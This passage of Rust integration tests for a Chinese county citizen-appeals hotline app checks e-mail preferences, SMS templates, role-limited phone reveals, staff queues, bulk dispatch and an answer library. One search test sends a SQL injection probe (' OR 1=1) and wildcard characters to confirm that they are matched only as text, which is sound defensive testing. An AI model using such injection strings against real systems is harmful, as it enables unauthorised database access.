    // E-mail choices: a bad address and a choice without an address are refused
    // beside the form, in Chinese.
    for (fields, says) in [
        (
            vec![("email", "wang@"), ("by_email", "new_work")],
            "邮箱地址应形如",
        ),
        (
            vec![("email", ""), ("by_email", "new_work")],
            "请先填写邮箱",
        ),
    ] {
        let r = app.post("/staff/notices/prefs", &handler, &fields).await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
        assert!(r.text().await.expect("body").contains(says));
    }
    let r = app
        .post(
            "/staff/notices/prefs",
            &handler,
            &[
                ("email", "wang@zjj.example.gov.cn"),
                ("by_email", "reminder"),
                ("by_email", "escalation"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, page) = app.get("/staff/notices?done=1", &handler).await;
    assert!(
        page.contains(r#"value="reminder" checked"#) && page.contains("wang@zjj.example.gov.cn")
    );

    // The SMS templates: administrators only; an unknown placeholder is refused; a
    // changed template words the next SMS; an empty one restores the default.
    let (status, _) = app.get("/staff/admin/messages", &handler).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, page) = app.get("/staff/admin/messages", &admin).await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("您的诉求已受理") && page.contains("data-test=\"outbox-counts\""));
    let r = app
        .post(
            "/staff/admin/messages/template",
            &admin,
            &[("key", "receipt"), ("text", "您好{name}")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().await.expect("body").contains("不认识"));
    let r = app
        .post(
            "/staff/admin/messages/template",
            &admin,
            &[
                ("key", "receipt"),
                ("text", "【澄河县12345】已受理{no}，凭{code}查询：{link}"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, code2) = app.submit(&[("phone", "13900139000")]).await;
    worker
        .deliver_due(chrono::Utc::now())
        .await
        .expect("deliver");
    let last = std::fs::read_to_string(&sms).expect("sms");
    let last = last.lines().last().expect("line");
    assert!(
        last.contains(&format!(
            "凭{code2}查询：https://12345.example.gov.cn/track"
        )),
        "{last}"
    );
    let r = app
        .post(
            "/staff/admin/messages/template",
            &admin,
            &[("key", "receipt"), ("text", "")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, page) = app.get("/staff/admin/messages", &admin).await;
    assert!(!page.contains("澄河县12345"));
    let r = app
        .post(
            "/staff/admin/messages/template",
            &admin,
            &[("key", "nonsense"), ("text", "x")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn those_who_must_call_the_appellant_see_the_phone_and_record_the_call() {
    let app = app("contact").await;
    let (no, code) = app.submit(&[]).await;
    let page_of = |cookie: &str| {
        let (app, no, cookie) = (&app, no.clone(), cookie.to_owned());
        async move { app.get(&format!("/staff/appeals/{no}"), &cookie).await }
    };
    let reveal = |cookie: &str, reason: &str| {
        let (app, no, cookie, reason) = (&app, no.clone(), cookie.to_owned(), reason.to_owned());
        async move {
            app.post(
                &format!("/staff/appeals/{no}/reveal"),
                &cookie,
                &[("reason", reason.as_str())],
            )
            .await
        }
    };
    // The handling unit's handler must call: one click with a reason shows the phone
    // as a link to dial, and the look goes on the internal timeline.
    let handler = app.login("zjj.handler").await;
    let (_, page) = page_of(&handler).await;
    assert!(page.contains("data-test=\"reveal-form\"") && !page.contains("13800138000"));
    let r = reveal(&handler, "先联系后办理，约定上门时间").await;
    assert_eq!(r.status(), StatusCode::OK);
    let page = r.text().await.expect("page");
    assert!(page.contains("href=\"tel:13800138000\""), "click to call");
    assert!(page.contains("查看完整个人信息") && page.contains("先联系后办理，约定上门时间"));
    let (_, later) = page_of(&handler).await;
    assert!(
        !later.contains("13800138000"),
        "masked again on the next visit"
    );
    assert!(
        later.contains("先联系后办理，约定上门时间"),
        "the look stays on the timeline"
    );

    // Those who need not call see masks only and are refused a reveal.
    for who in ["supervisor1", "leader1"] {
        let cookie = app.login(who).await;
        let (status, page) = page_of(&cookie).await;
        assert_eq!(status, StatusCode::OK, "{who} reads the case");
        assert!(!page.contains("data-test=\"reveal-form\""), "{who}");
        let r = reveal(&cookie, "想看看").await;
        assert_eq!(r.status(), StatusCode::FORBIDDEN, "{who}");
    }
    let other = app.login("slj.handler").await;
    assert_eq!(
        reveal(&other, "想看看").await.status(),
        StatusCode::NOT_FOUND
    );

    // The call itself is a step: its outcome is required, and it stays internal.
    let (status, body) = app
        .act(
            &handler,
            &no,
            &[("action", "contact"), ("text", "打了两次")],
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("请选择联系结果"));
    let (status, _) = app
        .act(
            &handler,
            &no,
            &[
                ("action", "contact"),
                ("reason", "no_answer"),
                ("text", "上午十点未接，下午再打"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (_, page) = page_of(&handler).await;
    assert!(page.contains("联系群众：无人接听") && page.contains("上午十点未接，下午再打"));
    let supervisor = app.login("supervisor1").await;
    let (status, _) = app
        .act(
            &supervisor,
            &no,
            &[("action", "contact"), ("reason", "reached"), ("text", "")],
        )
        .await;
    assert_eq!(
        status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "a supervisor does not make the calls"
    );
    let (_, public) = app.get(&format!("/track/{code}"), "").await;
    assert!(!public.contains("联系群众") && !public.contains("下午再打"));
}

#[tokio::test]
async fn each_role_opens_on_what_needs_it_now() {
    let app = app("queues").await;
    let (first, _) = app.submit(&[]).await;
    let (second, _) = app
        .submit(&[("text", "楼道里的暖气管漏水，地上全是水")])
        .await;
    let handler = app.login("zjj.handler").await;
    let count = |cookie: &str| {
        let (app, cookie) = (&app, cookie.to_owned());
        async move {
            let (status, body) = app.get("/staff/queues", &cookie).await;
            assert_eq!(status, StatusCode::OK);
            serde_json::from_str::<serde_json::Value>(&body).expect("json")
        }
    };
    // The handler opens on what waits for their sign-for, counted in the navigation.
    let (_, inbox) = app.get("/staff", &handler).await;
    assert!(
        inbox.contains("data-test=\"list-incoming\" class=\"on\"")
            || inbox.contains("class=\"on\" data-test=\"list-incoming\""),
        "the default list is the first queue"
    );
    assert!(inbox.contains(&first) && inbox.contains(&second));
    assert!(
        inbox.contains("data-queue-count=\"default\""),
        "the navigation's count"
    );
    let c = count(&handler).await;
    assert_eq!(
        (
            c["incoming"].as_i64(),
            c["handling"].as_i64(),
            c["default"].as_i64()
        ),
        (Some(2), Some(0), Some(2))
    );
    // Signed for, it moves to the cases in hand; answered, it leaves the unit's queues.
    assert_eq!(
        app.act(&handler, &first, &[("action", "sign_for")]).await.0,
        StatusCode::SEE_OTHER
    );
    let c = count(&handler).await;
    assert_eq!(
        (c["incoming"].as_i64(), c["handling"].as_i64()),
        (Some(1), Some(1))
    );
    let (_, in_hand) = app.get("/staff?list=handling", &handler).await;
    assert!(in_hand.contains(&first) && !in_hand.contains(&second));
    let (status, _) = app
        .act(
            &handler,
            &first,
            &[
                ("action", "reply"),
                ("text", "已派维修人员更换暖气阀门，室温恢复到20度以上。"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let c = count(&handler).await;
    assert_eq!(
        (c["incoming"].as_i64(), c["handling"].as_i64()),
        (Some(1), Some(0))
    );
    let (_, all) = app.get("/staff?list=all", &handler).await;
    assert!(all.contains(&first), "the all view keeps every case");

    // The dispatch centre opens on what it must place or rule on: a return.
    let (status, _) = app
        .act(
            &handler,
            &second,
            &[
                ("action", "return"),
                ("reason", "wrong_place"),
                ("text", "不属于本单位职责"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let dispatcher = app.login("dispatcher1").await;
    let (_, desk) = app.get("/staff", &dispatcher).await;
    assert!(
        desk.contains(&second) && !desk.contains(&first),
        "the return waits for a ruling"
    );
    assert_eq!(count(&dispatcher).await["dispatch"].as_i64(), Some(1));
    // The same words again from the same place: a merge candidate with the first.
    let before = count(&dispatcher).await["merge"].as_i64().expect("merge");
    let (third, _) = app.submit(&[]).await;
    let (_, candidates) = app.get("/staff?list=merge", &dispatcher).await;
    assert!(
        candidates.contains(&third) && candidates.contains(&first),
        "grouped together"
    );
    assert!(count(&dispatcher).await["merge"].as_i64().expect("merge") > before);
    // An auditor has no queue of their own: everything they may see, and no counts.
    app.add_staff("auditor1", "审计员", Role::Auditor, false)
        .await;
    let auditor = app.login("auditor1").await;
    assert_eq!(count(&auditor).await, serde_json::json!({}));
    // Labels and lists have their own controls in the filter form.
    let (_, form) = app.get("/staff?list=all", &handler).await;
    assert!(
        form.contains("data-test=\"filter-tag\"") && form.contains("data-test=\"filter-list\"")
    );
    let (_, tagged) = app
        .get("/staff?list=all&tag=escalated:head", &handler)
        .await;
    assert!(!tagged.contains(&first));
    // The API has the same queues.
    let token = app.token("zjj.handler").await;
    let (status, body) = app
        .api(
            reqwest::Method::GET,
            "/appeals?queue=incoming",
            &token,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(
        body["total"], 1,
        "only the third waits to be signed for: {body}"
    );
    assert_eq!(body["items"][0]["no"], third.as_str());
    let (status, _) = app
        .api(
            reqwest::Method::GET,
            "/appeals?queue=nonsense",
            &token,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn no_one_is_offered_a_page_their_role_cannot_use() {
    let app = app("navlinks").await;
    app.add_staff("auditor1", "审计员", Role::Auditor, false)
        .await;
    for user in [
        "admin",
        "callcenter1",
        "dispatcher1",
        "zjj.handler",
        "t02.head",
        "leader1",
        "supervisor1",
        "auditor1",
    ] {
        let cookie = app.login(user).await;
        let (status, page) = app.get("/staff", &cookie).await;
        assert_eq!(status, StatusCode::OK, "{user}");
        let nav = between(&page, "<nav>", "</nav>");
        let links: Vec<String> = nav
            .split("href=\"")
            .skip(1)
            .filter_map(|rest| rest.split('"').next())
            .map(str::to_owned)
            .collect();
        assert!(links.len() >= 5, "{user}: {links:?}");
        for link in links {
            // The language switch redirects back; every other link is a page.
            let (status, _) = app.get(&link.replace("&amp;", "&"), &cookie).await;
            let expected = if link.starts_with("/lang/") {
                StatusCode::SEE_OTHER
            } else {
                StatusCode::OK
            };
            assert_eq!(status, expected, "{user} is offered {link}");
        }
    }
}

#[tokio::test]
async fn the_dispatch_centre_acts_on_many_cases_at_once() {
    let app = app("bulk").await;
    let handler = app.login("zjj.handler").await;
    let dispatcher = app.login("dispatcher1").await;
    let mut nos = Vec::new();
    for text in [
        "暖气不热，屋里只有13度",
        "楼道暖气漏水",
        "单元门禁坏了",
        "小区路灯不亮",
    ] {
        nos.push(app.submit(&[("text", text)]).await.0);
    }
    // Two are returned to the centre; one stays with the unit.
    for no in &nos[..2] {
        let (status, _) = app
            .act(
                &handler,
                no,
                &[
                    ("action", "return"),
                    ("reason", "wrong_place"),
                    ("text", "不属于本单位"),
                ],
            )
            .await;
        assert_eq!(status, StatusCode::SEE_OTHER);
    }
    let slj = app.unit_id("slj").await;
    let selected: Vec<(&str, &str)> = nos[..3].iter().map(|n| ("no", n.as_str())).collect();
    let mut form = selected.clone();
    form.extend([
        ("action", "dispatch"),
        ("lead", slj.as_str()),
        ("urgency", "normal"),
    ]);
    let r = app.post("/staff/bulk", &dispatcher, &form).await;
    assert_eq!(r.status(), StatusCode::OK);
    let page = r.text().await.expect("page");
    let done = between(&page, "data-test=\"bulk-done\"", "</p>");
    assert!(
        done.contains(&nos[0]) && done.contains(&nos[1]) && !done.contains(&nos[2]),
        "{done}"
    );
    let refused = between(&page, "data-test=\"bulk-refused\"", "</section>");
    assert!(
        refused.contains(&nos[2]),
        "the one still with its unit is refused by number: {refused}"
    );
    // Each case got its own step.
    for no in &nos[..2] {
        let (page, _, _) = app.case_page(&dispatcher, no).await;
        assert!(page.contains("派至 县水利局"), "{no}");
    }
    // Merge two into the fourth; merging one into itself is refused.
    let mut merge = vec![("no", nos[2].as_str()), ("no", nos[3].as_str())];
    merge.extend([("action", "merge"), ("into", nos[3].as_str())]);
    let page = app
        .post("/staff/bulk", &dispatcher, &merge)
        .await
        .text()
        .await
        .expect("page");
    assert!(between(&page, "data-test=\"bulk-done\"", "</p>").contains(&nos[2]));
    assert!(between(&page, "data-test=\"bulk-refused\"", "</section>").contains(&nos[3]));
    // Labels: for everyone who works cases, never the system's own.
    let mut label = selected.clone();
    label.extend([("action", "label"), ("label", "冬季供暖")]);
    let r = app.post("/staff/bulk", &handler, &label).await;
    assert_eq!(r.status(), StatusCode::OK);
    let (_, tagged) = app
        .get("/staff?view=all&list=all&tag=冬季供暖", &dispatcher)
        .await;
    assert!(
        tagged.contains(&nos[0]) || tagged.contains(&nos[2]),
        "labelled cases are listed by it"
    );
    let mut system = selected.clone();
    system.extend([("action", "label"), ("label", "escalated:head")]);
    let r = app.post("/staff/bulk", &handler, &system).await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().await.expect("body").contains("系统标签"));
    app.add_staff("auditor1", "审计员", Role::Auditor, false)
        .await;
    let auditor = app.login("auditor1").await;
    assert_eq!(
        app.post("/staff/bulk", &auditor, &label).await.status(),
        StatusCode::FORBIDDEN
    );
    // Export the selection.
    let mut export = selected.clone();
    export.push(("action", "export"));
    let r = app.post("/staff/bulk", &dispatcher, &export).await;
    assert_eq!(r.status(), StatusCode::OK);
    assert!(
        r.headers()["content-type"]
            .to_str()
            .expect("ascii")
            .contains("spreadsheetml")
    );
    // Nothing selected, or an unknown action: a clear 400.
    assert_eq!(
        app.post("/staff/bulk", &dispatcher, &[("action", "export")])
            .await
            .status(),
        StatusCode::BAD_REQUEST
    );
    let mut fly = selected.clone();
    fly.push(("action", "fly"));
    assert_eq!(
        app.post("/staff/bulk", &dispatcher, &fly).await.status(),
        StatusCode::BAD_REQUEST
    );
    // The inbox offers the selection to the centre.
    let (_, inbox) = app.get("/staff?view=all&list=all", &dispatcher).await;
    assert!(
        inbox.contains("data-test=\"bulk-form\"") && inbox.contains("data-test=\"row-select\"")
    );
}

#[tokio::test]
async fn the_county_keeps_answers_for_replies_and_consultations() {
    let app = app("answers").await;
    let admin = app.login("admin").await;
    let handler = app.login("zjj.handler").await;
    let body = "按规定，供暖期间居室温度应不低于18℃。经检测不达标的，供热企业应当在24小时内整改。";
    let add = [
        ("category", "gongre"),
        ("title", "供暖室温标准"),
        ("body", body),
    ];
    assert_eq!(
        app.post("/staff/answers", &handler, &add).await.status(),
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        app.post("/staff/answers", &admin, &add).await.status(),
        StatusCode::SEE_OTHER
    );
    let r = app
        .post(
            "/staff/answers",
            &admin,
            &[("category", "nonsense"), ("title", "x"), ("body", "短")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let page = r.text().await.expect("page");
    assert!(
        page.contains("请从列表中选择") && page.contains("至少2个字"),
        "said field by field"
    );
    // Anyone finds it by its words; what is typed is matched as text, never as syntax.
    let (status, found) = app.get("/staff/answers?q=室温", &handler).await;
    assert_eq!(status, StatusCode::OK);
    assert!(found.contains("供暖室温标准"));
    for odd in ["%25", "_", "%27%20OR%201%3D1", "%5C"] {
        let (status, page) = app.get(&format!("/staff/answers?q={odd}"), &handler).await;
        assert_eq!(status, StatusCode::OK, "{odd}");
        assert!(!page.contains("供暖室温标准"), "{odd} matched everything");
    }
    // The handler starts a reply from it on a heating case.
    let (no, _) = app.submit(&[]).await;
    assert_eq!(
        app.act(&handler, &no, &[("action", "sign_for")]).await.0,
        StatusCode::SEE_OTHER
    );
    let (page, _, _) = app.case_page(&handler, &no).await;
    let pick = between(&page, "data-test=\"answer-pick-reply\"", "</select>");
    assert!(
        pick.contains("供暖室温标准") && pick.contains("不低于18℃"),
        "{pick}"
    );
    // Changed and removed by an administrator.
    let (_, kept) = app.get("/staff/answers?q=室温", &admin).await;
    let id = between(&kept, "name=\"id\" value=\"", "\"");
    let edit = [
        ("id", id.as_str()),
        ("category", ""),
        ("title", "供暖室温标准（通用）"),
        ("body", body),
    ];
    assert_eq!(
        app.post("/staff/answers", &admin, &edit).await.status(),
        StatusCode::SEE_OTHER
    );
    let (_, found) = app.get("/staff/answers?q=室温", &handler).await;
    assert!(found.contains("供暖室温标准（通用）"));
    let r = app
        .post(&format!("/staff/answers/{id}/remove"), &admin, &[])
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, found) = app.get("/staff/answers?q=室温", &handler).await;
    assert!(found.contains("data-test=\"answers-empty\""));
    assert_eq!(
        app.post(&format!("/staff/answers/{id}/remove"), &admin, &[])
            .await
            .status(),
        StatusCode::NOT_FOUND
    );

    // A consultation answered on the spot by the call-taker: registered closed, never
    // dispatched, the answer on the public page; any other kind is refused.
    let ct = app.login("callcenter1").await;
    let consult = [
        ("channel", "hotline"),
        ("kind", "consultation"),
        ("category", "gongre"),
        ("township", T1),
        ("village", V11),
        ("text", "想问一下今年供暖什么时候开始"),
        ("anonymous", "on"),
        ("answer_now", "on"),
        (
            "answer",
            "今年供暖定于11月15日开始，如遇寒潮将提前供暖，具体以供热公司公告为准。",
        ),
    ];
    let r = app.post("/staff/intake", &ct, &consult).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let location = r.headers()["location"].to_str().expect("ascii").to_owned();
    let (_, page) = app.get(&location, &ct).await;
    assert!(
        page.contains("当场解答办结") && !page.contains("派至"),
        "closed without dispatch"
    );
    let code = between(&page, "data-test=\"read-code\">", "<");
    let (_, public) = app.get(&format!("/track/{code}"), "").await;
    assert!(public.contains("今年供暖定于11月15日开始"));
    let mut complaint = consult.to_vec();
    complaint.retain(|(k, _)| *k != "kind");
    complaint.push(("kind", "complaint"));
    let r = app.post("/staff/intake", &ct, &complaint).await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.text()
            .await
            .expect("page")
            .contains("只有咨询类诉求可由话务员当场解答办结")
    );
}
